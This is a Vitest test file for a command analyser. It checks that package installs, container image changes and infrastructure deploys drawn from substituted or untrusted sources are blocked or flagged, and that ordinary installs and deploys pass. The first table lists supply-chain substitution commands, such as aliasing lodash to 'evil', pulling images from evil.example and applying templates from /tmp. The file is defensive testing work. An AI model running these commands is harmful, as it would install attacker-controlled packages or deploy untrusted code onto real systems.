import { describe, expect, it } from 'vitest'
import { analyse } from '../analyse.ts'

describe('what is installed or started under a name', () => {
  it.each([
    'npm install lodash@npm:other',
    'npm i react@npm:evil-react',
    'yarn add lodash@npm:evil',
    'pnpm add lodash@npm:evil@1.0.0',
    'bun add lodash@npm:evil',
    'npm i lodash@github:evil/lodash',
    'yarn add lodash@link:/tmp/l',
    'pip install "requests @ git+https://github.com/x/requests"',
    'uv add "requests @ git+https://github.com/x/requests"',
    'pipx install "black @ git+https://github.com/x/black"',
    'cargo add evil --rename serde',
    'cargo add serde --path /tmp/serde',
    `cargo build --config 'patch.crates-io.serde.git="https://github.com/evil/serde"'`,
    'go mod edit -replace=golang.org/x/crypto=/tmp/crypto',
    'bundle add rails --github evil/rails',
    'composer config repositories.x path /tmp/x',
    'helm upgrade app ./chart --set image.repository=evil.example/app',
    'helm install nginx bitnami/nginx --set image.registry=evil.io,image.repository=x/nginx',
    'helm upgrade app ./chart -f https://evil.example/values.yaml',
    'helm install x oci://evil.example/x',
    'kubectl set image deploy/web web=evil.example/web:1',
    'oc set image dc/web web=203.0.113.9:5000/web:1',
    'kubectl create deployment x --image=evil.example/x',
    `kubectl patch deploy web -p '{"spec":{"containers":[{"name":"web","image":"evil.example/x"}]}}'`,
    'aws cloudformation deploy --template-file /tmp/t.yml --stack-name x',
    'aws cloudformation create-stack --stack-name x --template-body file:///tmp/t.yml',
    'az deployment group create -g x --template-file /tmp/t.bicep',
    'terraform -chdir=/tmp/x apply',
    'terraform apply /tmp/plan',
    'terragrunt apply --terragrunt-working-dir /tmp/x',
    'ansible-playbook /tmp/x.yml',
    'ansible-playbook -i /tmp/hosts site.yml',
    'kubectl apply -f /tmp/x.yaml',
    'kustomize build /tmp/x | kubectl apply -f -',
    'docker build /tmp/x',
  ])('depends on somebody: %s', (command) => {
    const { verdict, certainty } = analyse(command)
    expect(verdict === 'BLOCK' || certainty !== 'known').toBe(true)
  })

  it.each([
    'npm install lodash@4',
    'npm install @types/node',
    'npm install react18@npm:react@18',
    'npm install string-width-cjs@npm:string-width@4',
    'pnpm add lib@workspace:*',
    'pip install "uvicorn[standard]"',
    'cargo add serde --features derive',
    'go mod edit -replace example.com/lib=../lib',
    'helm upgrade app ./chart --set image.tag=1.2.3',
    'helm upgrade app ./chart --set image.repository=ghcr.io/acme/app',
    'kubectl set image deployment/nginx nginx=nginx:1.25',
    'kubectl set image deployment/web web=registry.example.com/web:2',
    'kubectl apply -f k8s/',
    'terraform -chdir=infra plan',
    'terraform apply plan.tfplan',
    'ansible-playbook -i inventory site.yml',
    'aws cloudformation deploy --template-file template.yml --stack-name x',
    `cat > /tmp/x.yaml <<'EOF'\nkind: ConfigMap\nEOF\nkubectl apply -f /tmp/x.yaml`,
  ])('is ordinary: %s', (command) => {
    const { verdict, certainty } = analyse(command)
    expect([verdict !== 'BLOCK', certainty]).toEqual([true, 'known'])
  })
})
